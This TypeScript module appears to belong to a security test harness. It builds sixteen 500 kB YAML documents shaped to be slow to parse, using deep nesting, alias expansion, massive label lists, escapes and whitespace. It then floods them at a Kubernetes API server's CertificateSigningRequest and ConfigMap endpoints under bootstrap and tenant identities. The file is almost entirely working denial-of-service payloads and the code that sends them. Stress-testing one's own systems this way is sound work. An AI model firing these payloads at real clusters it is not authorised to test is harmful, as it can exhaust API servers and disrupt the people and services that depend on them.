import type {Attack} from '../attack.ts'
import {CSRS, inTurn} from './bodies.ts'

const SIZE = 500_000
const HEAD = 'apiVersion: certificates.k8s.io/v1\nkind: CertificateSigningRequest\n'
const fill = (piece: string) => piece.repeat(Math.floor(SIZE / piece.length))
const lines = (line: (number: number) => string) => {
  const made: string[] = []
  for (let size = 0, number = 0; size < SIZE; number++) {
    const next = line(number)
    made.push(next)
    size += next.length
  }
  return made.join('')
}

const DOCUMENTS = [
  `${HEAD}metadata:\n  labels:\n${lines((number) => `    k${number}: v\n`)}`,
  `${HEAD}metadata: ${fill('[')}`,
  `${HEAD}metadata: {${fill('a: {')}`,
  `${HEAD}metadata:\n${lines((number) => `${' '.repeat(number)}a:\n`)}`,
  `a: &a [x]\n${lines((number) => `k${number}: [*a, *a, *a]\n`)}`,
  `a: "${fill('\\u0041')}"\n`,
  `a: "${fill('x\n\n')}"\n`,
  `a: >\n${fill(' x\n\n')}`,
  fill('# a comment\n'),
  fill('? a\n'),
  fill('- '),
  fill('---\n'),
  fill('!!str '),
  fill('%YAML 1.2\n'),
  `${fill('\t')}a: b`,
  `a: ${fill(' ')}b`,
]

/** Documents that a reader of YAML may find hard. */
export const yaml: Attack = {
  name: 'yaml',
  aim: 'YAML of 500 kB in shapes that are slow to read',
  run: ({holdings, shoot, flood}) =>
    flood({perSecond: 4, atOnce: 2}, (number) => {
      const [identity, path] = inTurn(
        [
          [holdings.bootstrap, CSRS] as const,
          [holdings.tenant, configMapsOf(holdings.namespace)] as const,
        ],
        number,
      )
      const body = inTurn(DOCUMENTS, number)
      return shoot(identity, {method: 'POST', path, body, type: 'application/yaml'})
    }),
}

const configMapsOf = (namespace: string) => `/api/v1/namespaces/${namespace}/configmaps`
